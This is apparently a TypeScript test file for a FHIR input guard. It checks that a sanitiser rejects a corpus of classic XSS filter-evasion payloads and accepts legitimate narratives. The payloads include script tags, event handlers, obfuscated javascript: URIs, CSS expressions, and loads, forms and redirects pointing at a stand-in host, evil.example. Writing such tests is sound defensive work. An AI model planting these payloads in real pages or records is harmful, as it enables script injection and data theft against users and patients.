import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { expectValidFhir } from "../../test/support/fhir-validator.js";
import { sampleRecords } from "../../test/support/sample-records.js";
import { auditEventOf } from "./audit-event.js";
import { checkFhirInput, checkNarrativeDiv } from "./input-guard.js";
import { tableNarrative } from "./narrative.js";

/** Classic XSS payloads (OWASP XSS filter evasion cheat sheet style), each inside a narrative. */
const XSS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="#a" onerror="alert(1)"/>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://evil.example/">x</a>',
  '<a href="//evil.example/">x</a>',
  '<img src="https://evil.example/pixel.png"/>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf"/>',
  '<form action="https://evil.example"><input name="p"/></form>',
  '<p onclick="alert(1)">x</p>',
  '<div onmouseover="alert(1)">x</div>',
  '<p ONCLICK="alert(1)">x</p>',
  '<span style="background:url(javascript:alert(1))">x</span>',
  '<span style="width: expression(alert(1))">x</span>',
  '<span style="background:u\\rl(x)">x</span>',
  '<base href="https://evil.example/"/>',
  '<link rel="stylesheet" href="https://evil.example/x.css"/>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"/>',
  "<style>@import 'https://evil.example/x.css';</style>",
  "<!--<script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<a xlink:href="javascript:alert(1)">x</a>',
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  '<p title="x" data-x="y">x</p>',
];

const withDiv = (inner: string) => ({
  resourceType: "Provenance",
  text: { status: "generated", div: `<div xmlns="http://www.w3.org/1999/xhtml">${inner}</div>` },
});

describe("FHIR input guard (N1)", () => {
  it("refuses every payload of the XSS corpus in a narrative, with FHIR_INPUT_UNSAFE and the path", () => {
    for (const payload of XSS) {
      let code: unknown;
      try {
        checkFhirInput(withDiv(payload));
      } catch (error) {
        code = (error as { code?: unknown; context?: { path?: unknown } }).code;
        expect((error as { context: { path: string } }).context.path).toBe("Provenance.text.div");
      }
      expect(code, payload).toBe("FHIR_INPUT_UNSAFE");
    }
  });

  it("refuses script and external references outside narratives too", () => {
    const cases: unknown[] = [
      { resourceType: "Provenance", target: [{ reference: "https://evil.example/Patient/1" }] },
      { resourceType: "Provenance", target: [{ reference: "//evil.example/Patient/1" }] },
      { resourceType: "Provenance", agent: [{ who: { display: "<script>alert(1)</script>" } }] },
      { resourceType: "Provenance", agent: [{ who: { display: "<img src=x onerror=alert(1)>" } }] },
      { resourceType: "Provenance", policy: ["javascript:alert(1)"] },
      {
        resourceType: "Parameters",
        parameter: [{ name: "x", valueAttachment: { url: "http://evil.example/a" } }],
      },
      {
        resourceType: "Parameters",
        parameter: [{ name: "x", valueAttachment: { url: "data:text/html,<b>" } }],
      },
    ];
    for (const c of cases)
      expect(() => {
        checkFhirInput(c);
      }, JSON.stringify(c)).toThrow(expect.objectContaining({ code: "FHIR_INPUT_UNSAFE" }) as Error);
  });

  it("accepts what this service emits, and plain whitelisted narrative", () => {
    for (const [index, record] of sampleRecords().entries()) {
      checkFhirInput(auditEventOf({ index, leafHash: "a".repeat(64), record, origin: "o" }));
    }
    checkFhirInput(
      withDiv(
        '<p class="x" style="color: red">a <b>b</b> <a href="#s1">s</a></p><table><tr><td>1</td></tr></table>',
      ),
    );
    checkFhirInput({
      resourceType: "Provenance",
      agent: [{ onBehalfOf: { display: "機関" } }],
      target: [{ reference: "Binary/abc" }],
    });
  });

  it("generated narrative, for any text, passes the guard; a sample of it validates against R4", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: "binary", maxLength: 80 }),
        fc.string({ maxLength: 40 }),
        (value, label) => {
          checkNarrativeDiv("x", tableNarrative(label, [[label, value]]).div);
        },
      ),
      { numRuns: 300 },
    );
    for (const value of ["<script>alert(1)</script>", "a & b < c", '"quoted" \u0000 \ud800']) {
      const r = { resourceType: "Basic", code: { text: "x" }, text: tableNarrative("t", [["v", value]]) };
      expectValidFhir(r);
      checkFhirInput(r);
    }
  });
});
